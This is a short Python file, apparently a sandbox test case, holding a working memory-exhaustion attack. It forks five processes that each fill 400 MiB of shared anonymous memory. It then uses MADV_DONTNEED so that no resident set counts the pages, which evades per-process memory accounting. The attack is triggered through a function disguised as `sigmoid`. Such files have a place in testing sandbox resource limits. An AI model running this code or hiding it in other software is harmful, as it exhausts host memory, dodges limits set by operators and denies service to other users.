"""Goal: fill memory with shared pages that no process has mapped any more.

Without a sandbox: unsafe
"""

import mmap
import os
import time

CHILDREN, MIB = 5, 400


def fill():
    # Dropped from the page tables, the pages stay in the mapping's own file system: no resident set counts them.
    memory = mmap.mmap(-1, MIB << 20)
    piece = os.urandom(1 << 20)
    for start in range(0, MIB << 20, 1 << 20):
        memory[start : start + (1 << 20)] = piece
        memory.madvise(mmap.MADV_DONTNEED, start, 1 << 20)
    time.sleep(60)


def attack():
    try:
        for _ in range(CHILDREN):
            if os.fork() == 0:
                fill()
    except OSError as error:
        raise RuntimeError(f"stopped by: {error!r}")
    time.sleep(2)
    if os.waitpid(-1, os.WNOHANG) == (0, 0):
        raise RuntimeError(f"ATTACK SUCCEEDED: {CHILDREN * MIB} MiB of memory in use")


# Once a worker, so that no more is used than is said.
ONCE = iter([attack])


def sigmoid(x):
    next(ONCE)()
